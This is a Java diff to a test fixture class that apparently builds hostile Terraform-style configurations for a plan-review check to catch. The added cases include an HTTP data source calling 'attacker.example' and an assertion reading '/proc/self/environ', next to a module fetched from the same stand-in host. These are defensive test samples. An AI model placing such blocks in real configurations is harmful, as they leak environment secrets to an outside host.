@@ -122,6 +122,20 @@ final class HostileBranches {
                                 .putObject("m")
                                 .put("source", "git::https://attacker.example/m"))));
         branches.put(
+                "a check with a data source of its own",
+                new Branch(
+                        "check.spy: holds more than assertions",
+                        stack(json -> json.withObject("/check/spy")
+                                .putObject("data")
+                                .putObject("http")
+                                .putObject("spy")
+                                .put("url", "https://attacker.example"))));
+        branches.put(
+                "a check that calls a function",
+                new Branch(
+                        "has the expression file(",
+                        stack(json -> assertion(json, "${file(\"/proc/self/environ\") == \"\"}"))));
+        branches.put(
                 "a provisioner",
                 new Branch(
                         "has a provisioner block",
@@ -271,11 +285,29 @@ final class HostileBranches {
 
     /** A change that a reviewer would like to see planned. */
     static Change honest() {
-        return stack(json -> resource(json, "aws_vpc")
-                .put("cidr_block", "10.1.0.0/16")
-                // How synthesis writes a text of the configuration.
-                .putObject("tags")
-                .put("Pattern", "$${file(1)} %%{level} $${aws:username}"));
+        return stack(json -> {
+            resource(json, "aws_vpc")
+                    .put("cidr_block", "10.1.0.0/16")
+                    // How synthesis writes a text of the configuration.
+                    .putObject("tags")
+                    .put("Pattern", "$${file(1)} %%{level} $${aws:username}");
+            // How it looks at a VPC of somebody else.
+            assertion(json, "${data.aws_subnet.a.available_ip_address_count >= 3}");
+            data(json, "aws_subnet")
+                    .putObject("lifecycle")
+                    .putArray("postcondition")
+                    .addObject()
+                    .put("condition", "${self.availability_zone == \"us-west-2a\"}")
+                    .put("error_message", "${self.id} lies elsewhere");
+        });
+    }
+
+    private static void assertion(ObjectNode json, String condition) {
+        json.withObject("/check/free")
+                .putArray("assert")
+                .addObject()
+                .put("condition", condition)
+                .put("error_message", "full");
     }
 
     private static Change expression(String expression) {
